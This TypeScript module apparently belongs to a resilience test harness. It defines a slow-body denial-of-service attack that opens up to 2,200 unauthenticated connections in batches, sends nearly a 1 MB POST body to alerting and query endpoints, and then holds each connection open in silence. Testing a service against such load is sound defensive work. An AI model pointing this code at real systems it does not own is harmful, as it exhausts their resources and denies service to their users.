// Attacks by unauthenticated clients: connections without a credential.
import type { Attack, Attacker } from "./attack.ts";

const ANNOUNCED_BYTES = 1_048_570;
const SENT = Buffer.alloc(1_040_000, 0x20);
const HELD_MS = 45_000;
const OPENED_AT_ONCE = 25;
const OPENING_MS = 100;

/** So many connections, some at a time; each sends nearly its whole body and falls silent. */
export async function heldBodies(attacker: Attacker, path: string, count: number, heldMs = HELD_MS): Promise<void> {
  const head = `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${ANNOUNCED_BYTES}\r\n\r\n`;
  const held: Promise<void>[] = [];
  for (let opened = 0; opened < count && !attacker.over; opened += OPENED_AT_ONCE) {
    for (let index = 0; index < OPENED_AT_ONCE; index += 1) held.push(attacker.hold([head, SENT], heldMs));
    await attacker.pause(OPENING_MS);
  }
  await Promise.all(held);
}

export const unauthenticated: Attack = {
  group: "first",
  what: "without a key: 1,200 connections to /alerting/rules, 500 to an unknown path, 500 to a wrong method, a megabyte each, then silence",
  everyMs: 50_000,
  async wave(attacker) {
    const paths: [string, number][] = [
      ["/alerting/rules", 1200],
      ["/no/such/path", 500],
      ["/query/logs", 500],
    ];
    await Promise.all(paths.map(([path, count]) => heldBodies(attacker, path, count)));
  },
};
